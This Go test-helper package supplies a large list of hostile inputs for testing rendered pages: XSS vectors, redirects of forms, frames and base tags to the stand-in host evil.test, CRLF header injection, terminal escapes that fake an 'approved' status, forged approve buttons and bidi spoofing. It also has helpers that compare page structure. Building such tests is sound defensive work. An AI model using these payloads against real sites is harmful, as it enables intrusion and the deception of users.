// Package loopbacktest has what tests of pages need: texts that attack a page, and a look at the elements that it has.
package loopbacktest

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// Payloads attack HTML, its attributes, URLs, styles, scripts, templates, terminals and the eye. What runs calls alert.
var Payloads = []string{
	`<script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</style><script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`' onmouseover='alert(1)`, `" autofocus onfocus="alert(1)`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`https://a.test/"><script>`, `https://a.test/' onclick='x`, `<!--`, `-->`, `<![CDATA[<script>]]>`,
	`<svg/onload=alert(1)>`,
	`<iframe src=//evil.test>`, `<form action=//evil.test>`, `</form><form action=//evil.test>`,
	`<base href=//evil.test/>`,
	`<meta http-equiv=refresh content=0;url=//evil.test>`, `<input name=act value=enter>`,
	`<link rel=stylesheet href=//evil.test>`, `{{.Turn}}`, `{{template "page" .}}`,
	`&lt;script&gt;`, `&#x3c;script&#x3e;`, "a\r\nSet-Cookie: x=1\r\n\r\n<script>", "\x00<script>", "\u202e<script>",
	"\ufeff<b>", "\u2066evil\u2069", "+ADw-script+AD4-",
	`<textarea>`, `<plaintext>`, `<noscript><p title="</noscript><script>">`, "\xff\xfe<script>", "`-alert(1)-`",
	strings.Repeat("<b>", 5000),
	`<ScRiPt>alert(1)</sCrIpT>`, `<script src=data:,alert(1)></script>`, `<script>alert(1)//`,
	`<<script>alert(1)//<</script>`,
	`"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `</span></dd></dl><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `";alert(1);//`, `'};alert(1);//`,
	`<img src=x onerror=alert(1)//`, `<img src="x" onerror="alert(1)"`, `<IMG SRC=javascript:alert(1)>`,
	`<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`,
	`<audio src onerror=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x>`,
	`<math><mtext></mtext><script>alert(1)`,
	`<svg><script>alert(1)</script></svg>`, `<svg><use href="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<iframe srcdoc="<script>alert(1)</script>">`, `<object data="javascript:alert(1)">`,
	`<embed src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">click</a>`, `<button formaction=javascript:alert(1)>`,
	`<form id=f></form><button form=f name=act value=approve>`, `<button name=act value=approve>Approve`,
	`<style>*{display:none}</style>`, `<div style="position:fixed;inset:0;background:red">`,
	`style=x:expression(alert(1))`,
	`<template><script>alert(1)</script></template>`, `<xmp><script>alert(1)</script>`, `<listing>`, `<!DOCTYPE x>`,
	`<?xml version="1.0"?><script>alert(1)</script>`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)`,
	"\u2028alert(1)\u2029", "zero\u200b\u200c\u200d\u2060width", "\u202dorder\u202c", "\u061c\u05d0\u05d1 \u0627\u0628",
	"\x1b[2J\x1b[1;1Happroved", "\x1b]8;;https://evil.test\x07click\x1b]8;;\x07", "\x08\x08\x08denied",
	"a\n\n\nApproved, once",
	"Z\u0334\u0335\u0336\u0337\u0338\u0489\u0334\u0335\u0336\u0337\u0338", strings.Repeat("W", 20000),
	strings.Repeat("\u6f22", 5000), "line" + strings.Repeat("\n", 3000), "{{.}}{{end}}{{define \"x\"}}",
	"${alert(1)}", "__proto__",
}

// Walk visits the elements of a page.
func Walk(t testing.TB, text string, visit func(*html.Node)) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type == html.ElementNode {
			visit(n)
		}
	}
}

// Shape returns a page without its words: the elements with their attributes, but for the values that must differ.
func Shape(t testing.TB, text string) (all []string) {
	t.Helper()
	Walk(t, text, func(n *html.Node) {
		s := n.Data
		for _, a := range n.Attr {
			s += " " + a.Key
			if a.Key != "value" && a.Key != "href" && a.Key != "action" {
				s += "=" + a.Val
			}
			if a.Key == "href" && a.Val != "" && !strings.HasPrefix(a.Val, "https://") {
				s += "=" + a.Val
			}
		}
		all = append(all, s)
	})
	return all
}
